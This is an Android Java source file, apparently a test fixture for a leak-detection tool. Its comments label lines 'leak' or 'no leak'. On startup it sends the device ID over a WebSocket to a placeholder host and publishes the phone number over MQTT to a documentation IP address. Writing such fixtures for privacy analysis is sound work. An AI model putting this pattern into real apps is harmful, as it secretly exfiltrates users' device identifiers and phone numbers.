package habits;

import android.app.Activity;
import android.content.Context;
import android.os.Bundle;
import android.telephony.TelephonyManager;
import okhttp3.OkHttpClient;
import okhttp3.Request;
import okhttp3.WebSocket;
import okhttp3.WebSocketListener;
import org.eclipse.paho.client.mqttv3.MqttClient;
import org.eclipse.paho.client.mqttv3.MqttMessage;

/** Lines that stay open. */
public class Sockets extends Activity {
    @Override
    protected void onCreate(Bundle state) {
        TelephonyManager phone = (TelephonyManager) getSystemService(Context.TELEPHONY_SERVICE);
        WebSocket socket = new OkHttpClient().newWebSocket(new Request.Builder().url("wss://w.example.org/").build(), new WebSocketListener() {
        });
        socket.send("id " + phone.getDeviceId()); // leak
        socket.send("hello"); // no leak
        try {
            MqttClient client = new MqttClient("tcp://203.0.113.1:1883", "me");
            client.connect();
            MqttMessage message = new MqttMessage();
            message.setPayload(phone.getLine1Number().getBytes());
            client.publish("number", message); // leak
            client.publish("hello", new MqttMessage("hi".getBytes())); // no leak
        } catch (Exception ignored) {
        }
    }
}
